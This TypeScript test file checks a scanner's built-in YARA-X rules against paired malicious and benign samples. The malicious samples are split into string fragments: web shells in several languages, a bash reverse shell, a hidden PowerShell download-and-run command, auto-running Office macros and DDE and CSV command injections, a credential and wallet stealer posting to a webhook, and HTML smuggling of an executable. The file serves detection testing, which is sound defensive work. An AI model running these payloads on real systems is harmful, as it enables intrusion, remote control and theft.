import { readdir, readFile } from 'node:fs/promises';
import { beforeAll, describe, expect, it } from 'vitest';
import { openRules } from './open-rules.ts';
import { SMALL_BYTES, SMALL_FILES } from './rule-file.ts';
import { HEAD_BYTES } from './rule-gates.ts';
import type { RuleSet } from './rule-set.ts';

/** Put together here, so that a scanner of a developer's machine leaves this file alone. */
const join = (...pieces: readonly string[]): string => pieces.join('');
const DOS = join('This program cannot be run', ' in DOS mode');
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const PNG = Buffer.from('89504e470d0a1a0a', 'hex');
const ole = (...pieces: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([OLE, Buffer.alloc(64), ...pieces.map((piece) => Buffer.from(piece as string))]);
const wide = (text: string): Buffer => Buffer.from(text, 'utf16le');
const hex = (text: string): string => Buffer.from(text).toString('hex');

/** As MS-OVBA §2.4.1 stores text that does not repeat: a flag byte before each eight letters. */
function packed(text: string): Buffer {
  const pieces: Buffer[] = [];
  for (let at = 0; at < text.length; at += 8) pieces.push(Buffer.of(0), Buffer.from(text.slice(at, at + 8)));
  return Buffer.concat(pieces);
}

/** The least of a Windows program with one section of this name (PE format §2-4). */
function program(section: string, ...words: readonly string[]): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write('MZ');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80);
  bytes.writeUInt16LE(0x14c, 0x84);
  bytes.writeUInt16LE(1, 0x86);
  bytes.writeUInt16LE(0xe0, 0x94);
  bytes.writeUInt16LE(0x102, 0x96);
  bytes.writeUInt16LE(0x10b, 0x98);
  bytes.writeUInt32LE(0x1000, 0xb8);
  bytes.writeUInt32LE(0x200, 0xbc);
  bytes.writeUInt32LE(0x2000, 0xd0);
  bytes.writeUInt32LE(0x200, 0xd4);
  bytes.writeUInt32LE(16, 0xf4);
  bytes.write(section, 0x178);
  bytes.writeUInt32LE(0x100, 0x180);
  bytes.writeUInt32LE(0x1000, 0x184);
  bytes.writeUInt32LE(0x200, 0x188);
  bytes.writeUInt32LE(0x200, 0x18c);
  return Buffer.concat([bytes, Buffer.from(words.join('\0'))]);
}

/** The rule, what it has to find, and an honest file that looks much the same. */
const CASES: readonly (readonly [rule: string, bad: string | Buffer, honest: string | Buffer])[] = [
  ['eicar_test_file', join('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'), 'EICAR is a test file.'],
  [
    'php_runs_what_it_is_sent',
    join('<?php @ev', 'al($_PO', "ST['x']);"),
    "<?php echo htmlspecialchars($_POST['x']); eval('1;');",
  ],
  ['php_runs_what_it_is_sent', join('<?=$_G', 'ET[0]($_', 'POST[1])?>'), '<?= $_GET[0] . $_POST[1] ?>'],
  [
    'php_runs_what_it_is_sent',
    join('<?php sys', 'tem(base64_decode($_CO', "OKIE['c']));"),
    "<?php system('ls'); echo $_COOKIE['c'];",
  ],
  [
    'php_runs_what_is_packed',
    join('<?php ev', 'al(gzinflate(base64_', "decode('abc')));"),
    "<?php $text = gzinflate(base64_decode('abc'));",
  ],
  [
    'php_shell_with_a_page',
    join(
      '<?php echo php_un',
      'ame(); $o = shell_',
      'exec($_REQUEST["c"] . " 2>&1"); posix_getpw',
      'uid(1); ini_get("disable_functions");',
    ),
    '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $to); echo disk_free_space("/"), ini_get("open_basedir"); $_POST;',
  ],
  [
    'jsp_runs_what_it_is_sent',
    join('<%@ page import="java.io.*"%><% Runtime.getRun', 'time().exec(request.getPara', 'meter("c")); %>'),
    '<% String name = request.getParameter("name"); out.print(escape(name)); %>',
  ],
  [
    'aspx_runs_what_it_is_sent',
    join('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item["x"],"unsafe");%>'),
    '<%@ Page Language="C#" %><%= Server.HtmlEncode(Request.QueryString["x"]) %><%# Eval("Name") %>',
  ],
  ['asp_runs_what_it_is_sent', join('<%ev', 'al requ', 'est("x")%>'), '<% Response.Write Server.HTMLEncode(Request("x")) %>'],
  [
    'perl_runs_what_it_is_sent',
    join('#!/usr/bin/perl\nuse CGI; my $q = CGI->new; sys', "tem($q->param('c'));"),
    "#!/usr/bin/perl\nuse CGI; my $q = CGI->new; print escapeHTML($q->param('c')); system('date');",
  ],
  [
    'python_runs_what_it_is_sent',
    join('from flask import request\nos.sys', "tem(request.args.get('c'))"),
    "from flask import request\nname = request.args.get('c')\nsubprocess.run(['ls', '-l'])",
  ],
  [
    'python_runs_what_it_is_sent',
    join('from flask import request\nex', 'ec(request.form["c"])'),
    "import { request } from './a.ts';\nconst found = /^Bearer (.+)$/u.exec(request.headers.get('authorization') ?? '');",
  ],
  [
    'php_shell_with_a_page',
    join('<?php passth', 'ru("ls $_GET[d]"); echo php_un', 'ame(), getmyu', 'id(), disk_free_sp', 'ace("/");'),
    "let known = {'shell_exec(': 'string cmd | string', 'php_uname(': '', 'posix_getpwuid(': '', 'getmyuid(': '', '$_GET': '<?php'}",
  ],
  ['document_holds_a_program', ole(wide('WordDocument'), 'MZ', DOS), ole(wide('WordDocument'), 'a letter about programs')],
  ['document_holds_a_program', join('{\\rtf1 {\\object\\objdata ', hex(DOS), '}}'), '{\\rtf1 a letter about programs}'],
  [
    'macro_that_drops',
    ole(packed(join('Attribute VB_Name\r\nSub Auto', 'Open()\r\nCreateObject("WScr', 'ipt.Shell").Run "x"'))),
    ole(packed('Attribute VB_Name\r\nSub AutoOpen()\r\nActiveDocument.Fields.Update\r\nEnd Sub')),
  ],
  [
    'macro_text_that_drops',
    Buffer.from(packed(join('Attribute VB_Name\r\nSub Auto', 'Open()\r\nCreateObject("WScr', 'ipt.Shell").Run "x"'))),
    Buffer.from(packed('Attribute VB_Name\r\nSub AutoOpen()\r\nActiveDocument.Fields.Update\r\nEnd Sub')),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<?p', 'hp echo 1;'))]),
    Buffer.concat([PNG, Buffer.from('<?xpacket begin?>')]),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<?=`$_G', 'ET[0]`?>'))]),
    Buffer.concat([PNG, Buffer.from('<?=`$\0\x01', 'latin1')]),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<?=sys', "tem('id')?>"))]),
    Buffer.concat([PNG, Buffer.from('<?=sys\x80tem\xff', 'latin1')]),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<?=`i', 'd`?>'))]),
    Buffer.concat([PNG, Buffer.from('<?=`i\xffd`', 'latin1')]),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<%@ Page Lang', 'uage="C#" %>'))]),
    Buffer.concat([PNG, Buffer.from('<%@\xfe Page', 'latin1')]),
  ],
  [
    'script_in_picture',
    Buffer.concat([PNG, Buffer.from(join('<%ev', 'al requ', 'est("x")%>'))]),
    Buffer.concat([PNG, Buffer.from('<%ev\0al', 'latin1')]),
  ],
  [
    'pdf_starts_something',
    join('%PDF-1.4 1 0 obj << /S /Laun', 'ch /Win << /F (cmd.e', 'xe) >> >>'),
    '%PDF-1.4 1 0 obj << /Type /Catalog /JavaScript 2 0 R >> app.alert("hello")',
  ],
  [
    'rtf_attacks_the_reader',
    join('{\\rtf1{\\object\\objupdate{\\*\\objdata 0105', hex('Equation.3'), '}}}'),
    '{\\rtf1{\\object{\\*\\objdata 0105000002000000}} Equation.3 is a name}',
  ],
  [
    'office_reaches_out_to_run',
    join('<Relationship Type="oleObject" Target="mht', 'ml:https://192.0.2.1/a.html!x-usc:b" TargetMode="External"/>'),
    '<Relationship Type="hyperlink" Target="https://example.org/a.html" TargetMode="External"/>',
  ],
  ['office_reaches_out_to_run', join('name,price\n"=c', "md|'/C calc'!A0\",1\n"), 'name,price\n"=A1+B1",-1\n'],
  [
    'office_reaches_out_to_run',
    join('<w:instrText> DDE', 'AUTO c:\\\\windows\\\\sys', 'tem32\\\\cmd.exe "/k calc"</w:instrText>'),
    '<w:instrText> DDEAUTO Excel "Book1.xlsx" </w:instrText>',
  ],
  [
    'office_reaches_out_to_run',
    join('<w:instrText> DD', 'E "cm', 'd" "/k calc"</w:instrText>'),
    '<w:instrText> DDE Excel c</w:instrText>',
  ],
  ['pe_is_packed', program('UPX0'), program('.text')],
  [
    'pe_writes_into_other_programs',
    program('.text', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'),
    program('.text', 'VirtualAlloc', 'CreateThread', 'WriteFile'),
  ],
  [
    'ransom_note',
    join(
      'All of your files have been encr',
      'ypted. Do not rename them. Buy the decryption key with Bitc',
      'oin, see torproject.org.',
    ),
    'Our files are encrypted at rest. The private key is kept elsewhere; read about ransomware and Bitcoin at torproject.org.',
  ],
  [
    'miner_in_script',
    join('var m = new CoinH', 'ive.Anony', "mous('key'); m.start();"),
    "var pool = new Worker('a.js'); pool.start(); // not CoinHive",
  ],
  [
    'script_fetches_and_runs',
    join(
      'powersh',
      'ell.exe -nop -w hid',
      'den -c "IE',
      'X (New-Object Net.WebClient).Download',
      "String('http://192.0.2.1/a')\"",
    ),
    'powershell.exe -NoProfile -Command "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip"',
  ],
  [
    'reverse_shell',
    join('ba', 'sh -i >& /dev/t', 'cp/192.0.2.1/4444 0>&1'),
    'bash -c "echo > /dev/null"; curl telnet://192.0.2.1:4444',
  ],
  [
    'script_collects_credentials',
    join("a = open(p + '/Login Da", "ta'); b = 'wallet.d", "at'\nrequests.post('https://discord.com/api/web", "hooks/1/x')"),
    "requests.post('https://discord.com/api/webhooks/1/x', json={'content': 'the build passed'})",
  ],
  [
    'html_smuggles_a_program',
    join('<script>var b = new Bl', 'ob([at', "ob('TVqQAAMAAAAEAAAA')]); a.download", " = 'invoice.exe'; a.cli", 'ck()</script>'),
    "<script>var b = new Blob([atob('bmFtZSxwcmljZQ==')]); a.download = 'report.csv'; a.click()</script>",
  ],
];

let set: RuleSet;
beforeAll(async () => {
  await using rules = await openRules({ folder: null });
  const { set: found, faults } = rules.current();
  expect(faults).toEqual([]);
  if (found === null) throw new Error('the binary of YARA-X does not load here');
  set = found;
});

const namesOf = async (content: string | Buffer): Promise<string[]> =>
  (await set.scanBytes(Buffer.from(content as string))).map(({ rule }) => rule);

describe('the built-in rules', () => {
  it.each(CASES)('%s finds its sample and leaves the twin alone', async (rule, bad, honest) => {
    expect(await namesOf(bad)).toContain(rule);
    expect(await namesOf(honest)).toEqual([]);
  });

  it('have a sample each', () => {
    expect(new Set(CASES.map(([rule]) => rule)).size).toBe(set.rules);
  });

  it('that are not looked for in large files say so first, each of them', async () => {
    const folder = new URL('../../../yara/', import.meta.url);
    const files = (await readdir(folder)).filter((name) => name.endsWith(SMALL_FILES));
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const text = await readFile(new URL(file, folder), 'utf8');
      const rules = text.match(/^rule /gmu) ?? [];
      const bounds = [...text.matchAll(/^ {2}condition:\n {4}filesize < (\d+)(KB|MB) and (?!.*\n.*\bor\b)/gmu)];
      expect(bounds.length, file).toBe(rules.length);
      const sizes = bounds.map(([, count, unit]) => Number(count) * (unit === 'KB' ? 1024 : 1_048_576));
      expect(Math.max(...sizes)).toBeLessThanOrEqual(SMALL_BYTES);
    }
  });

  it('that are about how a file begins find it in large files as well', async () => {
    const names = ['macro_that_drops', 'document_holds_a_program', 'script_in_picture', 'pdf_starts_something'];
    for (const [name, bad, honest] of CASES.filter(([rule]) => names.includes(rule))) {
      const large = (bytes: string | Buffer): Buffer => Buffer.concat([Buffer.from(bytes as string), Buffer.alloc(SMALL_BYTES)]);
      expect(await namesOf(large(bad))).toContain(name);
      expect(await namesOf(large(honest))).toEqual([]);
    }
  });

  it('take any short tag of PHP in a small picture for a script, if what is behind it can be read', async () => {
    const shell = Buffer.concat([PNG, Buffer.from(join('<?=join(fi', 'le("/etc/hostname"))?>'))]);
    expect(await namesOf(shell)).toEqual(['script_in_picture']);
    expect(await namesOf(Buffer.concat([PNG, Buffer.from('<?=join(\xfffile(\xfe', 'latin1')]))).toEqual([]);
    expect(await namesOf(Buffer.concat([PNG, Buffer.from('<?=a')]))).toEqual([]);
  });

  it('of large files are looked for in them, and those of small ones in what is smaller', async () => {
    const [, shell = ''] = CASES.find(([rule]) => rule === 'asp_runs_what_it_is_sent') ?? [];
    const [, anywhere = ''] = CASES.find(([rule]) => rule === 'eicar_test_file') ?? [];
    const within = (bytes: number): Buffer =>
      Buffer.concat([Buffer.alloc(bytes, ' '), Buffer.from(`${String(shell)}\n${String(anywhere)}`)]);
    expect(await namesOf(within(1_000_000))).toEqual(['eicar_test_file', 'asp_runs_what_it_is_sent']);
    expect(await namesOf(within(SMALL_BYTES))).toEqual(['eicar_test_file']);
  });

  it('of large files have a word in each sample, by how it begins', async () => {
    const folder = new URL('../../../yara/', import.meta.url);
    const files = (await readdir(folder)).filter((name) => !name.endsWith(SMALL_FILES));
    const texts = await Promise.all(files.map(async (name) => readFile(new URL(name, folder), 'utf8')));
    let asked = 0;
    for (const [rule, bad] of CASES) {
      if (!texts.some((text) => new RegExp(`^rule ${rule}\\b`, 'mu').test(text))) continue;
      const bytes = Buffer.from(bad as string);
      const text = bytes.toString('latin1').toLowerCase();
      const words = set.gates.wordsFor(bytes.subarray(0, HEAD_BYTES));
      if (words !== null)
        expect(
          words.filter((word) => text.includes(word.toLowerCase())),
          rule,
        ).not.toEqual([]);
      asked += 1;
    }
    expect(asked).toBeGreaterThan(10);
  });

  it('say in words what they found', async () => {
    const [hit] = await set.scanBytes(Buffer.from(String(CASES[1]?.[1])));
    expect(hit).toEqual({ rule: 'php_runs_what_it_is_sent', severity: 'critical', what: 'PHP that runs what a request sends' });
  });
});
